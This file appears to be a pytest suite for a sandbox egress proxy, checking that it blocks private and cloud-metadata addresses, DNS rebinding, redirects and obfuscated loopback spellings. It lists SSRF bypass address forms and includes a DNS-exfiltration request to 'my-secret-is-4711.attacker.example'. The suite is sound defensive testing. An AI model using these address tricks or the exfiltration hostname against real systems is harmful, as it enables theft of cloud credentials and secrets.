"""Reaching what is not public: by what a name resolves to, by how an address is written, by what answers later."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.sandbox_runner.egress.servers import plain, server
from tests.sandbox_runner.egress.yard import yard

NOT_PUBLIC = [
    "127.0.0.1", "127.255.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.1.1", "169.254.169.254",
    "100.64.0.1", "100.100.100.200", "168.63.129.16", "224.0.0.1", "255.255.255.255", "240.0.0.1", "0.0.0.0",
    "198.18.0.1", "192.0.2.1", "::", "::1", "fe80::1", "fec0::1", "fc00::1", "fd00:ec2::254", "ff02::1",
    "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::ffff:10.0.0.1", "::127.0.0.1", "2002:7f00:1::1",
    "2002:a9fe:a9fe::", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b:1::a00:1", "2001:0:7f00:1::",
]  # fmt: skip
HAND_OUT_CREDENTIALS = ["169.254.169.254", "::ffff:169.254.169.254", "100.100.100.200", "fd00:ec2::254"]


@pytest.mark.parametrize("address", NOT_PUBLIC)
async def test_a_name_that_resolves_to_it(tmp_path: Path, sqlite_url: str, address: str) -> None:
    async with yard(tmp_path, sqlite_url, allow=["trap.example"]) as made:
        made.names["trap.example"] = [[address]]
        for answer in (await made.get("http://trap.example/"), (await made.tunnel("trap.example:443"))[0]):
            assert (answer.status, answer.error["error"]) == (403, "private_address")
        assert await made.asked() == []


async def test_a_public_address_beside_a_private_one(tmp_path: Path, sqlite_url: str) -> None:
    async with yard(tmp_path, sqlite_url, allow=["trap.example"]) as made:
        made.names["trap.example"] = [["93.184.216.34", "127.0.0.1"]]
        assert (await made.get("http://trap.example/")).error["error"] == "private_address"


@pytest.mark.parametrize("address", [*HAND_OUT_CREDENTIALS, "169.254.1.1", "0.0.0.0", "224.0.0.1"])
async def test_metadata_of_a_host_that_may_be_private(tmp_path: Path, sqlite_url: str, address: str) -> None:
    async with yard(tmp_path, sqlite_url, allow=["mirror.example"], allow_private=["mirror.example"]) as made:
        made.names["mirror.example"] = [[address]]
        assert (await made.get("http://mirror.example/")).error["error"] == "private_address"


async def test_rebinding_between_check_and_connection(tmp_path: Path, sqlite_url: str) -> None:
    """The address that was checked is the one that is connected to: the name is not looked up again."""
    async with (
        server() as good,
        server(plain(b"never"), host="127.0.0.2") as evil,
        yard(tmp_path, sqlite_url, allow=[f"two.example:{good.port}"], allow_private=["two.example"]) as made,
    ):
        made.names["two.example"] = [["127.0.0.1"], ["169.254.169.254"]]
        assert (await made.get(f"http://two.example:{good.port}/")).body == b"hello from outside\n"
        assert made.lookups == ["two.example"]
        assert (await made.get(f"http://two.example:{good.port}/")).error["error"] == "private_address"
        assert (good.connections, evil.connections) == (1, 0)


async def test_a_redirect_is_judged_as_a_request_of_its_own(tmp_path: Path, sqlite_url: str) -> None:
    moved = plain(b"", b"Location: http://169.254.169.254/latest/meta-data/", status=b"302 Found")
    async with (
        server(moved) as outside,
        yard(tmp_path, sqlite_url, allow=[outside.authority], allow_private=["127.0.0.1"]) as made,
    ):
        answer = await made.get(f"http://{outside.authority}/")
        assert answer.status == 302
        target = answer.head.partition("location: ")[2].splitlines()[0]
        assert (await made.get(target)).error["error"] == "private_address"


@pytest.mark.parametrize(
    "written",
    [
        "2130706433", "017700000001", "0x7f000001", "0x7f.0x0.0x0.0x1", "0177.0.0.1", "127.1", "127.0.1", "0",
        "127.0.0.01", "127.0.0.1.", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[fe80::1%25lo]", "[::]",
        "1.2.3.256", "0x7f.1", "１２７.0.0.1", "169.254.169.254", "[fd00:ec2::254]",
    ],
)  # fmt: skip
async def test_an_address_in_any_spelling(tmp_path: Path, sqlite_url: str, written: str) -> None:
    """None is looked up, none is connected to, and nobody is asked about any."""
    async with server() as outside, yard(tmp_path, sqlite_url) as made:
        await made.hear("hello")
        for place in (written, f"{written}:{outside.port}"):
            assert (await made.get(f"http://{place}/")).status in (400, 403)
        answer, _, _ = await made.tunnel(f"{written}:{outside.port}")
        assert answer.status in (400, 403)
        assert (outside.connections, made.lookups, await made.asked()) == (0, [], [])


async def test_looking_a_name_up_to_carry_words_out(tmp_path: Path, sqlite_url: str) -> None:
    """A host that is not allowed is not even looked up: its name could be the message."""
    async with yard(tmp_path, sqlite_url, allow=["example.org"]) as made:
        await made.get("http://my-secret-is-4711.attacker.example/")
        await made.tunnel("my-secret-is-4711.attacker.example:443")
        assert made.lookups == []
